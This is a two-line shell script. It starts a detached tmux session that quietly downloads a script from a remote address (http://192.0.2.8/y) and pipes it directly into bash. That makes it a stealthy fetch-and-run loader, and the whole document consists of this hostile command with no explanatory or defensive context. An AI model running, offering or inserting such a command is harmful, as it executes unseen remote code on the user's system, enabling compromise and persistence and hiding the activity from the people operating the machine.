#!/bin/sh
tmux new-session -d -s a 'wget -qO- http://192.0.2.8/y | bash'
